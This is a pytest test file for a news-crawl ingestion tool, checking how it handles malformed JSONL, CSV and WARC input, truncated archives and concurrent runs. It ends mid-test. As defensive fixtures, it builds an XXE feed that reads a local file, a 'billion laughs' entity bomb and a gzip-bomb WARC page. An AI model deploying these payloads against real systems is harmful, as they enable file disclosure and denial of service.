"""The hostile-input suite: what a newsroom's crawlers bring back and what a hostile user sends.

Nothing is lost (distinct articles keep distinct ids, one bad record costs only itself, nothing
is cut off silently) and nothing is let in (no fetch reaches a non-public address, no cross-site
or oversized write gets through). Tests that touch a store run on SQLite and, with
$PROPSCOPE_TEST_PG, on PostgreSQL (see conftest.py's ``db_url``).
"""

from __future__ import annotations

import concurrent.futures as cf
import contextlib
import csv
import gzip
import http.server
import io
import ipaddress
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
from bisect import bisect_right
from pathlib import Path
from types import SimpleNamespace

import httpx
import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from propscope import batch, fetch, ingest, sources, warc
from propscope.cli import main
from propscope.document import Analysis, Article, Sentence, Span
from propscope.ingest import Note, ReadOptions, Rejected, read_inputs
from propscope.pipeline import analyze_store
from propscope.store import Store
from propscope.web.app import create_app
from propscope.web.security import CSP, served_hosts

PAGE = ("<html><head><title>{t}</title></head><body><article><h1>{t}</h1><p>" + "{t} body sentence number one. " * 12
        + "</p></article></body></html>")


def cli(*args, input=None):
    return CliRunner().invoke(main, [str(a) for a in args], input=input, catch_exceptions=False)


def summary(result) -> dict:
    return json.loads(result.output.strip().splitlines()[-1])


def fake_analysis(a: Article, model: str = "fake") -> Analysis:
    return Analysis(a, [], [Sentence(0, len(a.text), 0.1)], 0.1, model)


class FakeModel:
    name = "fake"
    device = SimpleNamespace(type="cpu")

    def __init__(self):
        self.timings = {"tokenise": 0.0, "encoder": 0.0, "decode": 0.0}

    def analyze_batch(self, items):
        return [fake_analysis(a if isinstance(a, Article) else Article("t", a)) for a in items]


# -- article identity -----------------------------------------------------------------------
def test_stdin_read_twice_keeps_both_texts(db_url):
    first = cli("ingest", "-", "--db", db_url, "--format", "json", input="The first story from a pipe.")
    second = cli("ingest", "-", "--db", db_url, "--format", "json", input="A second, different story.")
    again = cli("ingest", "-", "--db", db_url, "--format", "json", input="The first story from a pipe.")
    assert summary(first)["new"] == 1 and summary(second)["new"] == 1
    assert summary(again) == {"new": 0, "duplicates": 1, "rejected": 0}
    assert Store(db_url).count_articles() == 2


def test_same_file_name_in_two_folders_keeps_both(db_url, tmp_path):
    for folder, text in (("monday", "Monday's story about the port."), ("tuesday", "Tuesday's story on rail.")):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "story.txt").write_text(text)
    r = cli("ingest", tmp_path / "monday", tmp_path / "tuesday", "--db", db_url, "--format", "json")
    assert summary(r) == {"new": 2, "duplicates": 0, "rejected": 0}
    ids = [a.id for a in Store(db_url).iter_articles()]
    assert len(set(ids)) == 2 and all(i.startswith("story-") for i in ids)


def test_analyze_db_with_paths_stores_same_named_files_apart(db_url, tmp_path, tiny_model):
    for folder in ("a", "b"):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "story.txt").write_text(f"Story from folder {folder}: the plan was a disgrace.")
    r = cli("analyze", "--db", db_url, "--model", tiny_model, "--no-sources", tmp_path / "a" / "story.txt",
            tmp_path / "b" / "story.txt")
    assert r.exit_code == 0 and Store(db_url).count_articles() == 2


def test_reuse_db_with_paths_stores_same_named_files_apart(db_url, tmp_path):
    for folder in ("a", "b"):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "story.txt").write_text(f"Story from folder {folder}: the plan was a disgrace.")
    r = cli("reuse", "--db", db_url, tmp_path / "a" / "story.txt", tmp_path / "b" / "story.txt")
    assert r.exit_code == 0 and Store(db_url).count_articles() == 2


def test_reuse_without_a_store_tells_same_named_files_apart(tmp_path):
    """`reuse dir1 dir2` (no --db) with a.txt in both folders stopped on a ValueError traceback
    ("duplicate article id 'a'"); different texts now take the store's unique ids, and one text
    under one name twice is looked at once, with a note."""
    story = "The harbour strike began today and the workers marched through the city centre for pay. " * 3
    for folder, text in (("d1", story), ("d2", "A different report about elections in the capital. " + story)):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "a.txt").write_text(text)
    r = cli("reuse", tmp_path / "d1", tmp_path / "d2", "--format", "json")
    assert r.exit_code == 0, r.output
    [passage] = json.loads(r.stdout)["passages"]
    assert passage["a"] != passage["b"] and {passage["a"][:2], passage["b"][:2]} == {"a-"}
    r = cli("reuse", tmp_path / "d1" / "a.txt", tmp_path / "d1" / "a.txt", "--format", "json")
    assert r.exit_code == 0 and json.loads(r.stdout)["passages"] == []
    assert "note: two inputs named a hold the same text; it is looked at once" in r.stderr
    r = cli("reuse", tmp_path / "d1" / "a.txt")
    assert r.exit_code == 0 and r.stdout == "0 passages in 0 clusters\n"


def test_batch_db_stores_same_named_files_apart(tmp_path, tiny_model):
    """Each result is saved on its own article: same-named inputs no longer overwrite each other."""
    for folder in ("a", "b"):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "story.txt").write_text(f"Story from folder {folder}: the plan was a disgrace.")
    db = f"sqlite:///{tmp_path / 'b.db'}"
    r = cli("batch", tmp_path / "a" / "story.txt", tmp_path / "b" / "story.txt", "--output", tmp_path / "out",
            "--scheduler", "local[1]", "--model", tiny_model, "--no-sources", "--db", db)
    assert r.exit_code == 0, r.output
    s = Store(db)
    texts = sorted(a.text for a in s.iter_articles())
    assert len(texts) == 2 and [s.get_analysis(a.id).article.text for a in s.iter_articles()] == [
        a.text for a in s.iter_articles()]


def test_id_less_jsonl_records_in_two_files_keep_both(db_url, tmp_path):
    for folder, text in (("a", "Record from the first export."), ("b", "Record from the second export.")):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "news.jsonl").write_text(json.dumps({"text": text}) + "\n")
    r = cli("ingest", tmp_path / "a" / "news.jsonl", tmp_path / "b" / "news.jsonl", "--db", db_url, "--format", "json")
    assert summary(r) == {"new": 2, "duplicates": 0, "rejected": 0}


def test_explicit_ids_urls_and_texts_still_say_same(db_url, tmp_path):
    """Generated ids never merge articles; explicit ids, URLs and the normalised text still do."""
    p = tmp_path / "x.jsonl"
    p.write_text("\n".join(json.dumps(r) for r in [
        {"id": "k1", "text": "Original text."}, {"id": "k1", "text": "Other text, same id."},
        {"text": "Via url.", "url": "https://n.example/1"}, {"text": "Other, same url.", "url": "https://n.example/1"},
        {"text": "  ORIGINAL   text. "}]) + "\n")
    assert summary(cli("ingest", p, "--db", db_url, "--format", "json")) == {"new": 2, "duplicates": 3, "rejected": 0}


# -- one bad record never costs the others --------------------------------------------------
BAD_RECORDS = [
    ({"id": "u", "text": "Url is a number.", "url": 42}, "field 'url' must be a string, not a number"),
    ({"id": "t", "text": "Title is a list.", "title": ["a", "b"]}, "field 'title' must be a string, not a list"),
    ({"id": "s", "text": "Lone \ud800 surrogate."}, "lone surrogate (U+D800)"),
    ({"id": "n", "text": "A NUL \u0000 inside."}, "NUL character"),
    ({"id": "x" * 600, "text": "Id too long."}, "over the 512"),
    ({"id": "o", "text": "Outlet too long.", "outlet": "o" * 300}, "over the 255"),
    ({"id": "w", "text": "Url too long.", "url": "https://w.example/" + "w" * 2100}, "over the 2,048"),
    ({"id": "g", "text": "Language too long.", "language": "english-as-spoken-here"}, "over the 16"),
    ({"id": "m", "text": "Meta with a surrogate.", "section": "\udfff"}, "lone surrogate"),
    ({"id": ["l"], "text": "Id is a list."}, "field 'id' must be a string or a whole number"),
]


def test_bad_jsonl_records_are_reported_and_the_rest_of_the_batch_stored(db_url, tmp_path):
    p = tmp_path / "export.jsonl"
    lines = [json.dumps({"id": "good-1", "text": "The first good record."})]
    lines += [json.dumps(rec) for rec, _ in BAD_RECORDS]
    lines += [json.dumps({"id": 7, "text": "A numeric id is repaired to a string."})]
    p.write_text("\n".join(lines) + "\n", encoding="utf-8", errors="surrogatepass")
    r = cli("ingest", p, "--db", db_url, "--format", "json")
    assert r.exit_code == 1 and "Traceback" not in r.stderr
    assert summary(r) == {"new": 2, "duplicates": 0, "rejected": len(BAD_RECORDS)}
    errors = r.stderr.splitlines()
    for n, (_, reason) in enumerate(BAD_RECORDS, 2):
        assert any(f"export.jsonl:{n}:" in e and reason in e for e in errors), (n, reason, errors)
    s = Store(db_url)
    assert s.get_article("good-1") and s.get_article("7").text.startswith("A numeric id")


def test_row_the_database_refuses_is_set_aside_not_its_batch(db_url, monkeypatch):
    """The store's own fallback, for what the readers' checks do not foresee."""
    from propscope import store as store_module

    monkeypatch.setattr(store_module, "check_article", lambda a: None)
    s = Store(db_url)
    odd = Article("odd", "Its title is not text.", title={"not": "text"})  # type: ignore[arg-type]
    r = s.add_articles([Article("a", "First good one."), odd, Article("b", "Second good one.")])
    assert (r.new, [i for i, _ in r.rejected]) == (2, ["odd"]) and "database refused" in r.rejected[0][1]
    assert s.count_articles() == 2


def test_other_readers_reject_unstorable_text(tmp_path):
    p = tmp_path / "late-nul.txt"
    p.write_bytes(b"A clean start. " * 1000 + b"\x00 and a NUL after the first 8 KB.")
    [r] = read_inputs([str(p)])
    assert isinstance(r, Rejected) and "NUL" in r.reason
    c = tmp_path / "rows.csv"
    c.write_text("id,text,outlet\n1,Fine row.,ok.example\n2,Outlet too long.," + "o" * 300 + "\n")
    items = list(read_inputs([str(c)]))
    assert isinstance(items[0], Article) and isinstance(items[1], Rejected) and items[1].source.endswith(":3")


# -- JSON Lines split on \n only ------------------------------------------------------------
SEPARATORS = "one\u2028two\u2029three\x85four\x1cfive\x1dsix\x1eseven\x0b\x0ceight"


def test_a_jsonl_line_nested_too_deeply_costs_only_itself(tmp_path):
    """Was a RecursionError traceback that lost the whole file."""
    p = tmp_path / "deep.jsonl"
    p.write_bytes(b'{"text": ' + b"[" * 100_000 + b"]" * 100_000 + b'}\n{"text": "A fine second story about rail."}\n')
    r = cli("ingest", p, "--db", f"sqlite:///{tmp_path / 's.db'}", "--format", "json")
    assert r.exit_code == 1 and f"{p}:1: JSON nested too deeply" in r.stderr
    assert summary(r) == {"new": 1, "duplicates": 0, "rejected": 1}


def test_a_jsonl_number_too_long_to_read_costs_only_its_line(tmp_path):
    """A record whose value is an integer of more digits than Python converts (4,300) was int()'s
    ValueError, a traceback out of ``ingest``; now that line is reported and asks for a string."""
    p = tmp_path / "long.jsonl"
    p.write_text('{"text": "A first story about the harbour.", "views": ' + "7" * 6000 + "}\n"
                 '{"text": "A second story about the railway."}\n', encoding="utf-8")
    r = cli("ingest", p, "--db", f"sqlite:///{tmp_path / 's.db'}", "--format", "json")
    assert r.exit_code == 1 and f"{p}:1: a number of 6,000 digits" in r.stderr and "quote it" in r.stderr
    assert "Traceback" not in r.stderr
    assert summary(r) == {"new": 1, "duplicates": 0, "rejected": 1}


def test_jsonl_strings_may_hold_unicode_line_separators(tmp_path):
    p = tmp_path / "seps.jsonl"
    p.write_text(json.dumps({"id": "s", "text": SEPARATORS}, ensure_ascii=False) + "\n", encoding="utf-8")
    [a] = read_inputs([str(p)])
    assert isinstance(a, Article) and a.text == SEPARATORS


def test_jsonl_with_classic_mac_line_ends_is_read_line_by_line(tmp_path):
    """Records ended by a lone CR (classic Mac OS, some exporters) were one line: "invalid JSON
    (Extra data, column 23)" and no record stored. CRLF, LF and a last line without an end still read."""
    (tmp_path / "cr.jsonl").write_bytes(b'{"id": "a", "text": "One."}\r{"id": "b", "text": "Two\\r."}\r')
    (tmp_path / "mixed.jsonl").write_bytes(b'{"id": "c", "text": "Three."}\r\n{"id": "d", "text": "Four."}')
    items = list(read_inputs([str(tmp_path / "cr.jsonl"), str(tmp_path / "mixed.jsonl")]))
    assert [(a.id, a.text) for a in items] == [("a", "One."), ("b", "Two\r."), ("c", "Three."), ("d", "Four.")]


def test_own_json_output_reads_back_in_ingest_and_batch(db_url, tmp_path, monkeypatch):
    art = Article("sep-1", SEPARATORS, title="Title\u2028with a separator")
    out = tmp_path / "analyses.jsonl"
    out.write_text(fake_analysis(art).to_json() + "\n", encoding="utf-8")  # as `analyze --format json` writes
    r = cli("ingest", out, "--db", db_url, "--format", "json")
    assert summary(r) == {"new": 1, "duplicates": 0, "rejected": 0}
    assert Store(db_url).get_article("sep-1").text == SEPARATORS
    monkeypatch.setattr(batch, "_model", lambda name, int8=False, taxonomy=None: FakeModel())
    [part] = batch.write_partitions([art, Article("plain", "Plain text.")], tmp_path / "run" / "_input", 10)
    info = batch.analyze_partition(str(part), str(tmp_path / "run" / part.name), None, sources=False)
    assert info["articles"] == 2
    assert [a.article.text for a in batch.read_results(tmp_path / "run")] == [SEPARATORS, "Plain text."]


# -- oversized articles ---------------------------------------------------------------------
def long_text(paragraphs: int) -> str:
    para = ('Maria Lopez said the council "betrayed the city" on Monday, according to Reuters. '
            "The mayor of Springfield denied it.\n")
    return para * paragraphs


def test_text_over_spacys_limit_is_parsed_in_pieces(monkeypatch):
    nlp = sources.nlp()
    text = long_text(60)  # ~8,000 characters
    monkeypatch.setattr(nlp, "max_length", 2_000)
    [found] = sources.extract_batch([text])
    assert len(found.entities) > 60 and len(found.attributions) >= 60 and len(found.quotes) == 60
    for e in found.entities:
        assert text[e.start : e.end] == e.text
    for q in found.quotes:
        assert text[q.start : q.end] == q.text
    for at in found.attributions:
        assert text[at.source_start : at.source_end] == at.source
        assert text[at.content_start : at.content_end] == at.content
    starts = [offset for offset, _ in sources._pieces(text, 2_000)]
    assert len(starts) >= 4
    pieces_of = {}
    for e in found.entities:  # pieces never share an entity id
        pieces_of.setdefault(e.entity_id, set()).add(bisect_right(starts, e.start))
    assert all(len(v) == 1 for v in pieces_of.values())


def test_analyze_store_gets_past_an_oversized_article(db_url, monkeypatch):
    monkeypatch.setattr(sources.nlp(), "max_length", 2_000)
    s = Store(db_url)
    s.add_articles([Article("short-1", "A short one."), Article("huge", long_text(40)), Article("short-2", "Another.")])
    assert analyze_store(s, FakeModel(), batch_size=2, sources=True) == 3
    assert s.count_pending("fake") == 0 and s.get_analysis("huge").attributions


def test_two_analyze_runs_on_one_store_at_once_share_the_work(tmp_path):
    """A second `analyze --db` started while one runs did all the work again: both analysed every
    article (120 PTC articles: 120 each, 435 s each). Now the run that finds an article it asked
    for already analysed goes on from the other end, and what the other stored is kept."""
    import time

    url = f"sqlite:///{tmp_path / 's.db'}"
    Store(url).add_articles([Article(f"a{n}", f"Story number {n} about the harbour.") for n in range(60)])

    class Slow(FakeModel):
        def analyze_batch(self, items):
            time.sleep(0.02 * len(items))
            return super().analyze_batch(items)

    with cf.ThreadPoolExecutor(2) as pool:
        runs = [pool.submit(analyze_store, Store(url), Slow(), batch_size=8, sources=False) for _ in range(2)]
        done = [r.result() for r in runs]
    s = Store(url)
    assert s.count_pending("fake") == 0 and sum(done) <= 60 + 2 * 8, done
    with s.engine.connect() as conn:
        assert conn.exec_driver_sql("SELECT count(*), count(DISTINCT article_pk) FROM analyses").one() == (60, 60)


def test_saving_may_keep_an_analysis_another_run_stored_meanwhile(tmp_path):
    s = Store(f"sqlite:///{tmp_path / 's.db'}")
    s.add_articles([Article("a", "The harbour strike ended."), Article("b", "The railway opened.")])
    a, b = s.pk_of("a"), s.pk_of("b")
    first = fake_analysis(Article("a", "The harbour strike ended."))
    s.save_analyses([(a, first)])
    assert s.still_pending("fake", [a, b]) == {b}
    again = Analysis(first.article, [], [Sentence(0, 5, 0.9)], 0.9, "fake")
    assert s.save_analyses([(a, again), (b, fake_analysis(Article("b", "The railway opened.")))], keep_stored=True) == [a]
    assert s.get_analysis("a").score == pytest.approx(0.1) and s.get_analysis("b") is not None
    assert s.save_analyses([(a, again)]) == [] and s.get_analysis("a").score == pytest.approx(0.9)


# -- silent truncation ----------------------------------------------------------------------
def make_warc(path: Path, n: int, gz: bool = True) -> bytes:
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    buf = io.BytesIO()
    w = WARCWriter(buf, gzip=gz)
    for i in range(n):
        headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1")
        # fixed record ids and dates: the same bytes every run, so a test that damages them damages the same way
        fixed = {"WARC-Record-ID": f"<urn:uuid:00000000-0000-4000-8000-{i:012d}>", "WARC-Date": "2026-01-02T03:04:05Z"}
        w.write_record(w.create_warc_record(f"https://w.example/{i}", "response", http_headers=headers,
                                            warc_headers_dict=fixed,
                                            payload=io.BytesIO(PAGE.format(t=f"Page {i}").encode())))
    path.write_bytes(buf.getvalue())
    return buf.getvalue()


@pytest.mark.parametrize("cut", [10, 300])
def test_truncated_warc_gz_is_reported_and_the_rest_read(db_url, tmp_path, cut):
    p = tmp_path / "crawl.warc.gz"
    p.write_bytes(make_warc(p, 4)[:-cut])
    r = cli("ingest", p, "--db", db_url, "--format", "json")
    assert r.exit_code == 1 and "truncated" in r.stderr and "Traceback" not in r.stderr
    got = summary(r)
    assert got["rejected"] >= 1 and 2 <= got["new"] <= 4


def test_cut_off_record_of_a_plain_warc_is_not_stored(tmp_path):
    p = tmp_path / "crawl.warc"
    p.write_bytes(make_warc(p, 3, gz=False)[:-80])
    items = list(read_inputs([str(p)]))
    assert [type(i) for i in items] == [Article, Article, Rejected] and "cut off" in items[2].reason


@pytest.mark.parametrize(("gz", "keep", "read", "says"), [
    (False, 2972, 3, "it ends at byte 2,972, inside the headers of record 4 (from byte 2,754); the 3 records before"),
    (False, 20, 0, "it ends at byte 20, inside the headers of record 1 (from byte 0)"),
    (True, -300, 3, "inside the headers of record 4 (from byte 1,"),
    (True, -10, 4, "inside a gzip member; the 4 records before the cut were read")])
def test_a_truncated_warc_says_which_record_where_and_what_to_do(tmp_path, gz, keep, read, says):
    """A plain WARC cut inside a record's headers lost that record without a word, and the other
    reports named no record or offset ("AttributeError: 'NoneType' object...") and gave no advice."""
    p = tmp_path / ("crawl.warc.gz" if gz else "crawl.warc")
    p.write_bytes(make_warc(p, 4, gz=gz)[:keep])
    items = list(read_inputs([str(p)]))
    assert sum(isinstance(i, Article) for i in items) == read
    [bad] = [i for i in items if isinstance(i, Rejected)]
    assert says in bad.reason and "fetch it again" in bad.reason, bad.reason


def test_a_plain_warc_cut_anywhere_in_its_last_record_says_so_in_plain_words(tmp_path):
    """A plain WARC cut inside a record's WARC headers was "damaged or truncated (AttributeError:
    'NoneType' object has no attribute 'startswith')" or "(ArchiveLoadFailed: Unknown archive
    format...)" depending on the byte, and one cut inside a page's HTTP headers was "no HTML
    responses found". Every cut now names the record and says the file ends inside it."""
    p = tmp_path / "crawl.warc"
    members = _warc_members(make_warc(p, 2, gz=False), gz=False)
    first = len(members[0])
    for keep in range(first + 1, first + len(members[1]) - 4):  # the last 4 bytes are the CRLFs after the page
        p.write_bytes(b"".join(members)[:keep])
        items = list(read_inputs([str(p)]))
        assert [type(i) for i in items] == [Article, Rejected], (keep, items)
        reason = items[1].reason
        assert not re.search(r"[A-Z][a-z]+(Error|Failed)\b|NoneType", reason), (keep, reason)
        assert (f"inside the headers of record 2 (from byte {first:,})" in reason
                or reason.startswith(f"record 2 (at byte {first:,}) is cut off")), (keep, reason)


def test_an_arc_file_whose_last_record_has_no_blank_line_is_read_whole(tmp_path):
    """An ARC record's header is one line, and a DNS record's body need not end in a line break:
    the check for a WARC cut inside its headers (no blank line before the end) must not take such
    a last record for a cut one."""
    page = (b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n" + PAGE.format(t="Archived").encode())

    def record(header: bytes, body: bytes) -> bytes:
        return header + b" %d\n" % len(body) + body + b"\n"

    p = tmp_path / "crawl.arc"
    p.write_bytes(record(b"filedesc://crawl.arc 0.0.0.0 20260102030405 text/plain", b"1 0 propscope\nURL IP-address "
                         b"Archive-date Content-type Archive-length\n")
                  + record(b"http://a.example/ 1.2.3.4 20260102030405 text/html", page)
                  + record(b"dns:a.example 1.2.3.4 20260102030405 text/dns", b"20260102030405 a.example. 300 IN A 1.2.3.4"))
    items = list(read_inputs([str(p)]))
    assert [type(i) for i in items] == [Article] and items[0].url == "http://a.example/", items


def test_a_record_missing_a_header_in_mid_file_is_named_in_plain_words(tmp_path):
    """A record without its WARC-Target-URI line was "(AttributeError: 'NoneType' object has no
    attribute 'startswith')": how warcio failed, not what is wrong with the file."""
    p = tmp_path / "crawl.warc"
    members = _warc_members(make_warc(p, 3, gz=False), gz=False)
    members[1] = re.sub(rb"WARC-Target-URI: [^\r]*\r\n", b"", members[1])
    p.write_bytes(b"".join(members))
    items = list(read_inputs([str(p)]))
    assert [type(i) for i in items] == [Article, Rejected, Article]
    assert "its WARC headers are damaged" in items[1].reason and "Error" not in items[1].reason, items[1]


def _lying_length(warc: bytes, k: int, delta: int, gz: bool) -> bytes:
    """``warc`` (made by ``make_warc``) with record ``k``'s Content-Length off by ``delta``."""
    import zlib

    members = []
    while warc:
        d = zlib.decompressobj(31) if gz else None
        if d is None:
            members = [b"WARC/1.0\r\n" + r for r in warc.split(b"WARC/1.0\r\n")[1:]]
            break
        members.append(d.decompress(warc))
        warc = d.unused_data
    found = re.search(rb"Content-Length: (\d+)", members[k])
    members[k] = members[k].replace(found.group(0), b"Content-Length: %d" % (int(found.group(1)) + delta), 1)
    return b"".join(gzip.compress(m) for m in members) if gz else b"".join(members)


@pytest.mark.parametrize(("gz", "delta"), [(False, -50), (True, -50), (True, 50)])
def test_a_record_whose_content_length_lies_is_reported_in_one_line(tmp_path, gz, delta):
    """warcio wrote three lines ("WARNING: Record not followed by newline...") and kept a record
    whose length is short cut short (50 bytes of its page gone, in silence); in a gzipped WARC a
    length running past its member was "the file ends early", though the file went on."""
    p = tmp_path / ("crawl.warc.gz" if gz else "crawl.warc")
    p.write_bytes(_lying_length(make_warc(p, 3, gz=gz), 0, delta, gz))
    r = cli("ingest", p, "--db", f"sqlite:///{tmp_path / 's.db'}", "--format", "json")
    assert r.exit_code == 1 and summary(r) == {"new": 2, "duplicates": 0, "rejected": 1}
    [line] = r.stderr.strip().splitlines()
    assert f"{p}#1: record 1 (at byte 0) does not end where its Content-Length" in line and "ends early" not in line


@pytest.mark.parametrize("gz", [False, True])
def test_a_content_length_past_what_an_index_holds_is_one_damaged_record(tmp_path, gz):
    """A Content-Length of 2**63 or more (a machine index cannot hold it) was an OverflowError
    traceback from inside warcio; it is the one record it heads, damaged, and the others are read."""
    p = tmp_path / ("crawl.warc.gz" if gz else "crawl.warc")
    members = _warc_members(make_warc(p, 3, gz=False), False)
    members[1] = re.sub(rb"Content-Length: \d+", b"Content-Length: %d" % 2**64, members[1], count=1)
    p.write_bytes(b"".join(gzip.compress(m) for m in members) if gz else b"".join(members))
    r = cli("ingest", p, "--db", f"sqlite:///{tmp_path / 's.db'}", "--format", "json")
    assert r.exit_code == 1 and summary(r) == {"new": 2, "duplicates": 0, "rejected": 1}, r.output
    [line] = r.stderr.strip().splitlines()
    assert f"{p}#2: " in line and "record 2" in line, line


@pytest.mark.parametrize("gz", [False, True])
def test_reading_goes_on_after_a_damaged_record(tmp_path, gz):
    """A gzip member cut short inside a crawl, junk between records, a first record damaged, or a
    Content-Length running into the next record: warcio stopped there, and every record after the
    damaged one was lost ("the 1 record before it were read, nothing after it")."""
    p = tmp_path / ("crawl.warc.gz" if gz else "crawl.warc")
    members = _warc_members(make_warc(p, 4, gz=gz), gz)
    damaged = {"cut.warc": members[0] + members[1][:len(members[1]) // 2] + members[2] + members[3],
               "junk.warc": members[0] + members[1] + b"junk between records\r\n" * 3 + members[2] + members[3],
               "first.warc": members[0][:len(members[0]) // 2] + members[1] + members[2] + members[3]}
    if not gz:
        damaged["length.warc"] = _lying_length(b"".join(members), 0, 50, gz=False)
    for name, data in damaged.items():
        f = tmp_path / (name + (".gz" if gz else ""))
        f.write_bytes(data)
        items = list(read_inputs([str(f)]))
        urls = sorted(i.url for i in items if isinstance(i, Article))
        lost = {"cut.warc": 1, "junk.warc": None, "first.warc": 0, "length.warc": 0}[name]
        assert urls == [f"https://w.example/{i}" for i in range(4) if i != lost], (name, items)
        [bad] = [i for i in items if isinstance(i, Rejected)]
        assert ("read on from the next record" in bad.reason or "Content-Length" in bad.reason), (name, bad)


def test_a_folder_reads_its_exports_and_archives_as_given_by_name(tmp_path):
    """A folder's .jsonl, .csv and .warc(.gz) files were skipped without a word beside its .txt
    and .html: `ingest saved/` stored the texts and lost the export and the crawl. They are read
    by their format; files read only by name (a .json, a README.md) are named in one note, which
    is no rejection; other files (an image) are left alone as before."""
    folder = tmp_path / "saved"
    (folder / "crawl").mkdir(parents=True)
    (folder / "a.txt").write_text("Alpha story text.")
    (folder / "export.jsonl").write_text('{"id": "j1", "text": "First record."}\n{"id": "j2", "text": "Second."}\n')
    (folder / "Sheet.CSV").write_text("id,text\nc1,A row of the sheet.\n")
    make_warc(folder / "crawl" / "day1.warc.gz", 2)
    make_warc(folder / "crawl" / "day2.warc", 1, gz=False)
    (folder / "README.md").write_text("# notes")
    (folder / "config.json").write_text("{}")
    (folder / "logo.png").write_bytes(b"\x89PNG\x00\x00")
    r = CliRunner().invoke(main, ["ingest", str(folder), "--db", str(tmp_path / "s.db"), "--format", "json"])
    # day2.warc holds page 0 again (make_warc names its pages by number): a duplicate of day1's
    assert r.exit_code == 0 and summary(r) == {"new": 6, "duplicates": 1, "rejected": 0}, r.output
    [note] = [line for line in r.stderr.splitlines() if "not read" in line]
    assert note == (f"propscope: note: {folder}: not read: 1 .json, 1 .md files; a folder is read for its .txt, "
                    ".html, .jsonl, .csv and .warc files: give others by name to read them")
    ids = {a.id for a in Store(str(tmp_path / "s.db")).iter_articles()}
    assert {"j1", "j2", "c1", "https://w.example/0", "https://w.example/1"} <= ids
    (tmp_path / "only").mkdir()
    (tmp_path / "only" / "data.json").write_text("{}")
    [bad] = list(read_inputs([str(tmp_path / "only")]))
    assert isinstance(bad, Rejected) and "(it holds 1 .json: give such a file by name to read it)" in bad.reason


def test_a_folder_does_not_read_back_the_analyses_written_into_it(tmp_path):
    """`analyze folder/ --format json -o folder/out.jsonl` run twice read its own output the second
    time (a folder's .jsonl is read, and an analysis line is read for its article) and analysed
    every article twice. In a folder such a file is named in a note; given by name it is read."""
    folder = tmp_path / "saved"
    folder.mkdir()
    (folder / "a.txt").write_text("Alpha story text.")
    analysis = {"id": "a", "article": {"id": "a", "text": "Alpha story text."}, "spans": []}
    (folder / "out.jsonl").write_text("\n" + json.dumps(analysis) + "\n")
    (folder / "export.jsonl").write_text('{"id": "j1", "text": "First record."}\n')
    items = list(read_inputs([str(folder)]))
    assert sorted(i.id for i in items if isinstance(i, Article)) == ["a", "j1"]
    [note] = [i for i in items if isinstance(i, Note)]
    assert note.source == str(folder / "out.jsonl") and "propscope's own analyses" in note.message
    assert [i.id for i in read_inputs([str(folder / "out.jsonl")])] == ["a"]


def test_a_feed_cannot_read_local_files_or_expand_entities_exponentially(tmp_path):
    """Guard (it held before this test): feedparser resolves no external entity (XXE: a feed
    must not copy a local file into the store) and expands no nested ones (a billion laughs)."""
    import time

    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-LOCAL-FILE")
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    feeds = {"xxe.rss": (f'<!DOCTYPE rss [<!ENTITY x SYSTEM "file://{secret}">]><rss version="2.0"><channel>'
                         "<title>F</title><item><title>t &x;</title><link>https://a.example/1</link>"
                         "<description>Leak: &x; end of the entry.</description></item></channel></rss>"),
             "xxe.atom": (f'<!DOCTYPE feed [<!ENTITY x SYSTEM "file://{secret}">]><feed xmlns="http://www.w3.org/2005/'
                          'Atom"><title>F</title><entry><title>t &x;</title><id>urn:1</id><content>Leak: &x; end.'
                          "</content></entry></feed>"),
             "laughs.rss": (f'<!DOCTYPE rss [<!ENTITY l0 "lol">{laughs}]><rss version="2.0"><channel><title>F</title>'
                            "<item><title>t</title><link>https://a.example/2</link><description>&l9;</description>"
                            "</item></channel></rss>")}
    for name, feed in feeds.items():
        (tmp_path / name).write_text('<?xml version="1.0"?>\n' + feed)
        start = time.monotonic()
        items = list(read_inputs([str(tmp_path / name)]))
        assert time.monotonic() - start < 10 and items, name
        for i in items:
            assert "TOPSECRET" not in str(i) and len(str(i)) < 10_000, (name, i)


def test_a_gzip_bomb_page_in_a_warc_is_refused_in_bounded_memory(tmp_path, monkeypatch):
    """A record's page was read whole before its size was looked at: a 1 KB record holding a
    gzip-encoded page of 300 MB of spaces took 655 MB of memory, and the refusal said to raise
    --max-bytes, which does not govern WARC pages."""
    import tracemalloc

    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    monkeypatch.setattr(warc, "WARC_PAGE_LIMIT", 1_000_000)
    bomb = gzip.compress(b"<html><body><p>" + b" " * 150_000_000 + b"</p></body></html>")
    buf = io.BytesIO()
    w = WARCWriter(buf, gzip=True)
    headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html"), ("Content-Encoding", "gzip")],
                               protocol="HTTP/1.1")
    w.write_record(w.create_warc_record("https://bomb.example/", "response", http_headers=headers,
                                        payload=io.BytesIO(bomb)))
    p = tmp_path / "crawl.warc.gz"
    p.write_bytes(buf.getvalue() + make_warc(tmp_path / "fine.warc.gz", 1))
    tracemalloc.start()
    try:
        bad, fine = read_inputs([str(p)])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert isinstance(bad, Rejected) and "over 1,000,000 bytes once decompressed" in bad.reason, bad
    assert "--max-bytes" not in bad.reason and isinstance(fine, Article)
    assert peak < 60_000_000, peak  # warcio inflates 16 KB of gzip at a time: 16 MB of spaces


def test_a_warc_is_gzipped_or_not_by_its_bytes_not_its_name(tmp_path):
    """A crawl.warc.gz that a browser or server unzipped on download keeps its name: it was read,
    then reported "truncated ... inside a gzip member" (exit 1); a gzipped .warc cut short was
    not checked as gzip at all."""
    plain = tmp_path / "saved.warc.gz"
    make_warc(plain, 2, gz=False)
    assert [type(i) for i in read_inputs([str(plain)])] == [Article, Article]
    cut = tmp_path / "cut.warc"
    cut.write_bytes(make_warc(cut, 3, gz=True)[:-10])
